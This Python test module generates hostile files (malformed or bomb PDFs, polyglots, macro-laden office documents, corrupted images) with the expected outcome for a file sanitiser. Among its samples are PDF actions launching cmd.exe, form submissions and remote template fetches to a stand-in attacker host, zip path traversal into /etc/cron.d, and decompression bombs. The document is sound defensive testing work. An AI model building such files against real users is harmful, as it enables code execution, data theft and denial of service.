"""Files nobody should be able to hurt us with, made anew each time: what each is, and what may become of it.

An outcome is "taken" (as it came), "cleaned" (taken without what it would do) or "refused:<reason>".
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image
from pypdf import PdfReader, PdfWriter

MEGABYTE = 1024 * 1024
REFUSED = "refused"


@dataclass(frozen=True)
class Hostile:
    """may: the outcomes that are right; "refused" alone stands for every reason."""

    label: str
    data: bytes
    may: frozenset[str]


def every_file() -> list[Hostile]:
    makers = (
        *(_actions, _hidden_names, _attachments, _external, _encrypted, _bombs, _recursion, _cross_references),
        *(_mutations, _page_sizes, _polyglots, _pictures, _office, _others),
    )
    return [each for make in makers for each in make()]


def case(label: str, data: bytes, *may: str) -> Hostile:
    return Hostile(label, data, frozenset(may))


# Building PDFs by hand, since libraries refuse to make such files


def pdf(*objects: bytes, trailer: bytes = b"", root: int = 1) -> bytes:
    """Return a PDF of these objects, numbered from 1, with a correct cross-reference."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer,
        table,
    )
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(data), data)


def simple(
    *, catalog: bytes = b"", page: bytes = b"", content: bytes = b"0 0 10 10 re f", more: tuple[bytes, ...] = ()
) -> bytes:
    """Return a one-page PDF: 1 catalogue, 2 pages, 3 page, 4 content, then `more` from 5 on."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %b >>" % page,
        stream(content),
        *more,
    )


def packed_objects(inner: bytes) -> bytes:
    """Return a PDF whose catalogue lies in a compressed object stream, where no search of the bytes finds it."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R %b >>" % inner
    head = b"1 0 "
    objects = [
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"),
        (4, stream(b"0 0 10 10 re f")),
        (5, stream(zlib.compress(head + catalog), b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(head))),
    ]
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, each in objects:
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = len(out)
    rows = [b"\x00" + struct.pack(">IB", 0, 255), b"\x02" + struct.pack(">IB", 5, 0)]
    rows += [b"\x01" + struct.pack(">IB", places[number], 0) for number in (2, 3, 4, 5)]
    rows += [b"\x01" + struct.pack(">IB", table, 0)]
    entries = b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode"
    out += b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(zlib.compress(b"".join(rows)), entries), table)
    return bytes(out)


ACTIONS = {
    "javascript": b"/S /JavaScript /JS (app.alert\\(1\\))",
    "launch": b"/S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >>",
    "submit": b"/S /SubmitForm /F (http://attacker.invalid/take) /Flags 0",
    "import": b"/S /ImportData /F (secret.fdf)",
    "remote": b"/S /GoToR /F (//attacker.invalid/share/a.pdf) /D [0 /Fit]",
    "embedded go to": b"/S /GoToE /T << /R /C /N (a.pdf) >>",
    "rendition": b"/S /Rendition /OP 0 /JS (app.alert\\(1\\))",
    "movie": b"/S /Movie /Operation /Play",
    "sound": b"/S /Sound /Sound 4 0 R",
    "rich media": b"/S /RichMediaExecute /CMD << /C (x) >>",
    "3d": b"/S /GoTo3DView /V 0",
    "thread": b"/S /Thread /F (other.pdf) /D 0",
}


def _actions() -> Iterator[Hostile]:
    may = ("cleaned", REFUSED)
    for label, words in ACTIONS.items():
        action = b"<< /Type /Action %b >>" % words
        bare = b"<< %b >>" % words
        link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] %b >>"
        yield case(f"{label} on opening", simple(catalog=b"/OpenAction " + action), *may)
        yield case(f"{label} on opening, by reference", simple(catalog=b"/OpenAction 5 0 R", more=(bare,)), *may)
        yield case(f"{label} when a page opens", simple(page=b"/AA << /O %b >>" % bare), *may)
        yield case(f"{label} behind a link", simple(page=b"/Annots [%b]" % (link % (b"/A " + action))), *may)
        yield case(
            f"{label} behind a link, by reference",
            simple(page=b"/Annots [5 0 R]", more=(link % (b"/A " + bare),)),
            *may,
        )
        yield case(
            f"{label} after a harmless action",
            simple(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %b >>" % bare),
            *may,
        )
        outline = (b"<< /Type /Outlines /First 6 0 R /Last 6 0 R >>", b"<< /Title (x) /Parent 5 0 R /A %b >>" % action)
        yield case(f"{label} in the outline", simple(catalog=b"/Outlines 5 0 R", more=outline), *may)
        field = b"<< /FT /Tx /T (f) /Subtype /Widget /Rect [0 0 9 9] /AA << /K %b >> >>" % bare
        form = b"/AcroForm << /Fields [5 0 R] >>"
        yield case(f"{label} on a keystroke", simple(catalog=form, page=b"/Annots [5 0 R]", more=(field,)), *may)
        yield case(f"{label} in a compressed object", packed_objects(b"/OpenAction " + action), *may)


def _hidden_names() -> Iterator[Hostile]:
    may = ("cleaned", REFUSED)
    spelled = (b"/J#61vaScript", b"/#4aavaScript", b"/JavaScrip#74", b"/#4A#61#76#61#53#63#72#69#70#74")
    for place, name in enumerate(spelled):
        yield case(f"escaped name {place}", simple(catalog=b"/OpenAction << /S %b /JS (1) >>" % name), *may)
        yield case(f"escaped key {place}", simple(catalog=b"/OpenAction << /S /JavaScript /J#53 (1) >>"), *may)
    yield case(
        "name tree", simple(catalog=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"), *may
    )
    yield case("object nobody refers to", simple(more=(b"<< /S /JavaScript /JS (1) >>",)), *may)
    yield case("older revision", _with_revision(simple(catalog=b"/OpenAction << /S /JavaScript /JS (1) >>")), *may)
    yield case("after the end", simple() + b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n" * 40, *may)
    yield case(
        "script in a stream",
        simple(catalog=b"/OpenAction << /S /JavaScript /JS 5 0 R >>", more=(stream(b"app.alert(1)"),)),
        *may,
    )
    yield case("action as a name array", simple(catalog=b"/OpenAction [<< /S /JavaScript /JS (1) >>]"), *may)


def _with_revision(first: bytes) -> bytes:
    """Return the file with a harmless catalogue appended: only the bytes still show what the old one did."""
    start = first.rfind(b"startxref")
    previous = int(first[start + 9 :].split()[0])
    place = len(first)
    changed = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    table = place + len(changed)
    tail = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + changed + tail % (place, previous, table)


def _attachments() -> Iterator[Hostile]:
    may = ("cleaned", REFUSED)
    carried = stream(b"MZ\x90\x00" + b"\x00" * 64, b"/Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    yield case(
        "attachment",
        simple(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", more=(carried, spec)),
        *may,
    )
    yield case("attachment nobody refers to", simple(more=(carried, spec)), *may)
    yield case("associated file", simple(catalog=b"/AF [6 0 R]", more=(carried, spec)), *may)
    note = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>"
    yield case("attached note", simple(page=b"/Annots [7 0 R]", more=(carried, spec, note)), *may)
    yield case(
        "portfolio",
        simple(
            catalog=b"/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
            more=(carried, spec),
        ),
        *may,
    )
    for kind in (b"/RichMedia", b"/Screen", b"/Movie", b"/Sound", b"/3D"):
        note = b"<< /Type /Annot /Subtype %b /Rect [0 0 9 9] >>" % kind
        yield case(f"note {kind.decode()}", simple(page=b"/Annots [%b]" % note), *may)
        yield case(f"note {kind.decode()} by reference", simple(page=b"/Annots [5 0 R]", more=(note,)), *may)
    yield case(
        "form of its own kind",
        simple(catalog=b"/AcroForm << /XFA 5 0 R /Fields [] >>", more=(stream(b"<xdp/>"),)),
        *may,
    )
    yield case(
        "form of its own kind, in parts",
        simple(catalog=b"/AcroForm << /XFA [(a) 5 0 R] /Fields [] >>", more=(stream(b"<xdp/>"),)),
        *may,
    )


def _external() -> Iterator[Hostile]:
    may = ("cleaned", REFUSED)
    for target in (b"(/etc/passwd)", b"(//attacker.invalid/a)", b"<< /FS /URL /F (http://attacker.invalid/a) >>"):
        outside = stream(b"", b"/F %b /FFilter /FlateDecode" % target)
        yield case(f"content elsewhere {target!r}", simple(more=(outside,)), *may)
        image = stream(
            b"",
            b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F %b"
            % target,
        )
        yield case(
            f"picture elsewhere {target!r}",
            simple(page=b"/Resources << /XObject << /P 5 0 R >> >>", content=b"/P Do", more=(image,)),
            *may,
        )
    shown = stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >>")
    yield case(
        "page of another file",
        simple(page=b"/Resources << /XObject << /P 5 0 R >> >>", content=b"/P Do", more=(shown,)),
        *may,
    )


def _encrypted() -> Iterator[Hostile]:
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"):
        for user in ("", "secret"):
            writer = PdfWriter()
            writer.append(PdfReader(io.BytesIO(simple())))
            writer.encrypt(user, "owner", algorithm=algorithm)
            out = io.BytesIO()
            writer.write(out)
            yield case(f"encrypted {algorithm} {user or 'without a password'}", out.getvalue(), "refused:encrypted")
    unknown = simple().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Own /V 9 >>")
    yield case("encrypted in an unknown way", unknown, "refused:encrypted")


def _bombs() -> Iterator[Hostile]:
    big = zlib.compress(b"\x00" * (20 * MEGABYTE), 9)
    flate = b"/Filter /FlateDecode"
    yield case("content that unpacks", simple(more=(stream(big, flate),)), "refused:bomb")
    yield case(
        "content of the page that unpacks",
        pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            stream(big, flate),
        ),
        "refused:bomb",
    )
    twice = zlib.compress(big, 9)
    yield case("packed twice", simple(more=(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"),)), "refused:bomb")
    thrice = zlib.compress(twice, 9)
    yield case(
        "packed three times", simple(more=(stream(thrice, b"/Filter [/FlateDecode /Fl /FlateDecode]"),)), "refused:bomb"
    )
    part = zlib.compress(b"\x00" * (7 * MEGABYTE), 9)
    yield case("many that unpack", simple(more=tuple(stream(part, flate) for _ in range(6))), "refused:bomb")
    many = zlib.compress(b"".join(b"%d 0 " % number for number in range(100)) + b" " * (20 * MEGABYTE))
    yield case(
        "object stream that unpacks",
        simple(more=(stream(many, b"/Type /ObjStm /N 100 /First 500 " + flate),)),
        "refused:bomb",
    )
    for count in (5, 20, 200):
        chain = b"/Filter [" + b"/ASCIIHexDecode " * count + b"]"
        yield case(f"{count} filters in a row", simple(more=(stream(b"30", chain),)), "refused:nesting")
    for width, height in ((60_000, 60_000), (2_000_000_000, 2), (20_000, 20_000)):
        for name, extra in (
            ("flate", flate),
            ("fax", b"/Filter /CCITTFaxDecode"),
            ("jpeg 2000", b"/Filter /JPXDecode"),
            ("bare", b""),
        ):
            image = stream(
                b"\x00",
                b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray %b"
                % (width, height, extra),
            )
            document = simple(page=b"/Resources << /XObject << /P 5 0 R >> >>", content=b"/P Do", more=(image,))
            yield case(f"picture {width} by {height}, {name}", document, "refused:pixels")
    runs = bytes((129, 0)) * (4 * MEGABYTE)
    yield case("run lengths", simple(more=(stream(runs, b"/Filter /RunLengthDecode"),)), "taken", REFUSED)
    lzw = stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", b"/Filter /LZWDecode")
    yield case("lzw", simple(more=(lzw,)), "taken")
    yield case(
        "too many pages",
        pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%b] /Count 600 >>" % b" ".join(b"%d 0 R" % number for number in range(3, 603)),
            *(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>" for _ in range(600)),
        ),
        "refused:pages",
    )
    yield case("a count that lies", simple().replace(b"/Count 1", b"/Count 999999999"), "taken", "cleaned", REFUSED)
    objects = tuple(b"null" for _ in range(30_000))
    yield case("very many objects", simple(more=objects), "refused:bomb", "taken")


def _recursion() -> Iterator[Hostile]:
    for depth in (100, 5_000, 100_000):
        yield case(
            f"arrays {depth} deep",
            simple(more=(b"[" * depth + b"]" * depth,)),
            "refused:nesting",
            "cleaned",
            "refused:broken",
            "taken",
        )
        yield case(
            f"dictionaries {depth} deep",
            simple(more=(b"<</A" * depth + b" 1 " + b">>" * depth,)),
            "refused:nesting",
            "refused:broken",
            "cleaned",
            "taken",
        )
        yield case(f"brackets {depth} deep in the content", simple(content=b"[" * depth), "taken", REFUSED)
        yield case(f"states {depth} deep", simple(content=b"q " * depth), "taken", REFUSED)
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /P %d 0 R >> >>"
    use = b"/Resources << /XObject << /P 5 0 R >> >>"
    yield case(
        "form that draws itself",
        simple(page=use, content=b"/P Do", more=(stream(b"/P Do", form % 5),)),
        "taken",
        REFUSED,
    )
    yield case(
        "forms that draw each other",
        simple(page=use, content=b"/P Do", more=(stream(b"/P Do", form % 6), stream(b"/P Do", form % 5))),
        "taken",
        REFUSED,
    )
    laughs = (
        *(stream(b"/P Do " * 12, form % (6 + level)) for level in range(12)),
        stream(b"0 0 1 1 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),
    )
    yield case(
        "forms twelve to the twelfth", simple(page=use, content=b"/P Do", more=laughs), "refused:too_heavy", "taken"
    )
    tree = b"<< /Type /Pages /Kids [%b] /Count 1 /Parent 2 0 R >>"
    yield case(
        "page tree in a ring", pdf(b"<< /Type /Catalog /Pages 2 0 R >>", tree % b"3 0 R", tree % b"2 0 R"), REFUSED
    )
    yield case("page tree of itself", pdf(b"<< /Type /Catalog /Pages 2 0 R >>", tree % b"2 0 R"), REFUSED)
    deep = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (number + 1, number - 1)
        for number in range(2, 2000)
    ]
    last = b"<< /Type /Page /Parent 1999 0 R /MediaBox [0 0 9 9] >>"
    yield case("page tree 2000 deep", pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *deep, last), "taken", REFUSED)
    yield case("object that is itself", simple(more=(b"5 0 R",)), "taken", "cleaned", REFUSED)
    yield case(
        "length that is itself",
        simple(more=(b"<< /Length 5 0 R >>\nstream\nx\nendstream",)),
        "taken",
        "cleaned",
        REFUSED,
    )
    yield case("previous reference in a ring", _ring(), "taken", "cleaned", REFUSED)
    shading = b"/Resources << /Pattern << /P 5 0 R >> >>"
    pattern = stream(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep .001 /YStep .001 "
        b"/Resources << /Pattern << /P 5 0 R >> >>",
    )
    yield case(
        "pattern within itself",
        simple(page=shading, content=b"/Pattern cs /P scn 0 0 200 200 re f", more=(pattern,)),
        "taken",
        REFUSED,
    )


def _ring() -> bytes:
    made = simple()
    table = int(made[made.rfind(b"startxref") + 9 :].split()[0])
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table)


def _cross_references() -> Iterator[Hostile]:
    good = simple()
    may = ("cleaned", REFUSED)
    start = good.rfind(b"startxref")
    for label, changed in (
        ("points nowhere", good[:start] + b"startxref\n99999999\n%%EOF\n"),
        ("points at the beginning", good[:start] + b"startxref\n0\n%%EOF\n"),
        ("is negative", good[:start] + b"startxref\n-5\n%%EOF\n"),
        ("is no number", good[:start] + b"startxref\nabc\n%%EOF\n"),
        ("is missing", good[:start]),
        ("without an end mark", good.replace(b"%%EOF", b"")),
        ("is cut off", good[: good.rfind(b"trailer")]),
        ("has shifted entries", good.replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + b" " * 40)),
        ("has a giant size", good.replace(b"/Size 5", b"/Size 99999999999")),
        ("has a giant section", good.replace(b"xref\n0 5", b"xref\n0 99999999")),
        ("starts elsewhere", good.replace(b"xref\n0 5", b"xref\n4000000000 5")),
        ("has no root", good.replace(b"/Root 1 0 R", b"")),
        ("has a root that is missing", good.replace(b"/Root 1 0 R", b"/Root 77 0 R")),
        ("has a root of another kind", good.replace(b"/Root 1 0 R", b"/Root 4 0 R")),
        ("has letters for offsets", good.replace(b"00000 n", b"0000x n")),
    ):
        yield case(f"cross-reference {label}", changed, *may, "taken")
    for place in range(1, 21):
        yield case(f"cut off at {place * 5} per cent", good[: len(good) * place // 21], *may)


def _mutations() -> Iterator[Hostile]:
    """Bytes changed by chance, the same chance each time."""
    sources = {"plain": simple(), "packed": packed_objects(b"/Lang (sv)")}
    for label, source in sources.items():
        for seed in range(35):
            chance = random.Random(seed)
            changed = bytearray(source)
            for _ in range(1 + seed // 3):
                changed[chance.randrange(9, len(changed))] = chance.randrange(256)
            yield case(f"{label} changed by chance {seed}", bytes(changed), "taken", "cleaned", REFUSED)


def _page_sizes() -> Iterator[Hostile]:
    for box in (
        b"[0 0 0 0]",
        b"[0 0 1 1]",
        b"[0 0 1e9 1e9]",
        b"[0 0 20000 20000]",
        b"[0 0 99999999999999999999 5]",
        b"[9 9 9 9]",
    ):
        made = simple().replace(b"/MediaBox [0 0 200 200]", b"/MediaBox %b" % box)
        yield case(f"page {box.decode()}", made, "refused:page_size", "cleaned", "taken", "refused:broken")
    for box in (b"[]", b"[0]", b"null", b"[(a) (b) (c) (d)]", b"[0 0 -200 -200]", b"99 0 R"):
        made = simple().replace(b"/MediaBox [0 0 200 200]", b"/MediaBox %b" % box)
        yield case(f"page {box.decode()}", made, "taken", "cleaned", REFUSED)
    yield case(
        "page with a giant unit", simple(page=b"/UserUnit 1000000"), "refused:page_size", "taken", "refused:broken"
    )


def _polyglots() -> Iterator[Hostile]:
    good, archive, png = simple(), _zip({"a.txt": b"a"}), _picture("PNG")
    yield case("PDF that is a ZIP too", good + archive, "refused:mixed")
    yield case("ZIP that is a PDF too", archive + good, "refused:mixed", "refused:type", "refused:broken")
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as made:
        made.writestr("a.pdf", good)
    yield case("ZIP with a PDF stored at the front", stored.getvalue(), "refused:mixed", "refused:type")
    for label, front in (
        ("GIF", b"GIF89a"),
        ("program", b"MZ\x90\x00"),
        ("page", b"<html><script>1</script>"),
        ("script", b"#!/bin/sh\n"),
        ("spaces", b" " * 500),
        ("picture", b"BM"),
    ):
        yield case(f"PDF that begins as a {label}", front + good, "refused:mixed")
    yield case("picture with a PDF after it", png + good, "taken", "cleaned", REFUSED)
    yield case("picture with a ZIP after it", _picture("JPEG") + archive, "taken", REFUSED)
    yield case(
        "picture with a page in its words", png[:33] + _chunk(b"tEXt", b"c\x00<script>1</script>") + png[33:], "taken"
    )


def _pictures() -> Iterator[Hostile]:
    for kind in ("PNG", "JPEG", "TIFF"):
        whole = _picture(kind)
        for share in (10, 30, 60, 90):
            yield case(f"{kind} cut off at {share} per cent", whole[: len(whole) * share // 100], REFUSED, "taken")
        yield case(f"{kind} that is only its beginning", whole[:12], REFUSED)
        for seed in range(6):
            chance, changed = random.Random(seed), bytearray(whole)
            for _ in range(8):
                changed[chance.randrange(12, len(changed))] = chance.randrange(256)
            yield case(f"{kind} changed by chance {seed}", bytes(changed), REFUSED, "taken")
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    small = zlib.compress(b"\x00" * MEGABYTE)
    bomb = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", small) + _chunk(b"IEND", b"")
    yield case("PNG of 60,000 by 60,000", bomb, "refused:pixels")
    words = _chunk(b"zTXt", b"a\x00\x00" + zlib.compress(b"\x00" * (40 * MEGABYTE), 9))
    whole = _picture("PNG")
    yield case("PNG whose words unpack", whole[:33] + words + whole[33:], "refused:broken", "refused:bomb", "taken")
    profile = _chunk(b"iCCP", b"a\x00\x00" + zlib.compress(b"\x00" * (40 * MEGABYTE), 9))
    yield case(
        "PNG whose profile unpacks", whole[:33] + profile + whole[33:], "refused:broken", "refused:bomb", "taken"
    )
    frame = bytearray(_picture("JPEG"))
    mark = frame.find(b"\xff\xc0")
    frame[mark + 5 : mark + 9] = struct.pack(">HH", 65_500, 65_500)
    yield case("JPEG of 65,500 by 65,500", bytes(frame), "refused:pixels")
    tags = struct.pack("<HHHII", 2, 256, 4, 1, 90_000) + struct.pack("<HHII", 257, 4, 1, 90_000)
    yield case("TIFF of 90,000 by 90,000", b"II*\x00\x08\x00\x00\x00" + tags + struct.pack("<I", 8), REFUSED)
    ring = b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 0) + struct.pack("<I", 8)
    yield case("TIFF whose frames form a ring", ring, REFUSED)
    out, frames = io.BytesIO(), [Image.new("1", (1, 1)) for _ in range(130)]
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:])
    yield case("TIFF of too many frames", out.getvalue(), "refused:pages")


def _office() -> Iterator[Hostile]:
    types = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    rel = (
        b'<Relationships><Relationship Id="a" Type="http://x/%b" Target="http://attacker.invalid/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    made: dict[str, tuple[dict[str, bytes], str]] = {
        "macros": (types | {"word/vbaProject.bin": b"x"}, "refused:macros"),
        "template elsewhere": (types | {"word/_rels/settings.xml.rels": rel % b"attachedTemplate"}, "refused:external"),
        "picture elsewhere": (types | {"word/_rels/document.xml.rels": rel % b"image"}, "refused:external"),
        "object elsewhere": (types | {"word/_rels/document.xml.rels": rel % b"oleObject"}, "refused:external"),
        "object within": (types | {"word/embeddings/oleObject1.bin": b"x"}, "refused:embedded"),
        "control": (types | {"word/activeX/activeX1.xml": b"<a/>"}, "refused:embedded"),
        "archive within": (types | {"word/media/a.zip": _zip({"b": b"c"})}, "refused:embedded"),
        "entities": (types | {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, "refused:external"),
        "path out of the folder": (types | {"../../etc/cron.d/a": b"x"}, "refused:broken"),
        "absolute path": (types | {"/etc/cron.d/a": b"x"}, "refused:broken"),
        "archive bomb": (types | {"word/media/a.bin": b"\x00" * (20 * MEGABYTE)}, "refused:bomb"),
        "basic": (
            {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/script.xml": b"<a/>"},
            "refused:macros",
        ),
        "linked picture": (
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b'<draw:image xlink:href="http://attacker.invalid/a.png"/>',
            },
            "refused:external",
        ),
    }
    for label, (entries, outcome) in made.items():
        yield case(f"office document with {label}", _zip(entries), outcome)
    harmless = _zip(types | {"word/_rels/document.xml.rels": rel % b"hyperlink"})
    yield case("office document with a link to click", harmless, "office")
    lied = bytearray(_zip(types | {"word/media/a.bin": b"\x00" * (20 * MEGABYTE)}))
    place = lied.rfind(b"PK\x01\x02", 0, lied.rfind(b"word/media/a.bin"))
    lied[place + 24 : place + 28] = struct.pack("<I", 10)
    yield case("archive bomb that lies about its size", bytes(lied), "refused:bomb", "refused:broken")
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
    yield case(
        "old office document with macros", old + b"_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00", "refused:macros"
    )
    yield case("archive that is not one", b"PK\x03\x04" + b"\x00" * 200, "refused:broken")
    yield case("plain archive", _zip({"a.exe": b"MZ"}), "refused:type")


def _others() -> Iterator[Hostile]:
    yield case("nothing", b"", "refused:empty")
    for label, data in (
        ("words", b"hello"),
        ("page", b"<!doctype html><script>1</script>"),
        ("drawing", b"<svg onload='1'/>"),
        ("program", b"MZ" + b"\x00" * 400),
        ("unix program", b"\x7fELF" + b"\x00" * 400),
        ("rtf", b"{\\rtf1 a}"),
        ("gif", b"GIF89a" + b"\x00" * 30),
        ("webp", b"RIFF\x00\x00\x00\x00WEBP"),
        ("postscript", b"%!PS-Adobe\nquit"),
        ("gzip", b"\x1f\x8b\x08" + b"\x00" * 30),
        ("7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 30),
        ("mail", b"From: a@b.invalid\n\nx"),
    ):
        yield case(f"file of another kind: {label}", data, "refused:type")
    for seed in range(20):
        chance = random.Random(seed)
        yield case(f"noise after a heading {seed}", b"%PDF-1.7\n" + chance.randbytes(3000), REFUSED)
    yield case("only a heading", b"%PDF-1.7\n", REFUSED)
    yield case("too large", b"%PDF-1.7\n" + b"\x00" * (9 * MEGABYTE), "refused:size")
    yield case("streams that never end", b"%PDF-1.7\n" + b"stream\n" * 200_000, REFUSED)


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in entries.items():
            made.writestr(name, data)
    return out.getvalue()


def _picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.radial_gradient("L").resize((120, 90)).convert("RGB").save(out, kind)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(data, zlib.crc32(kind)))
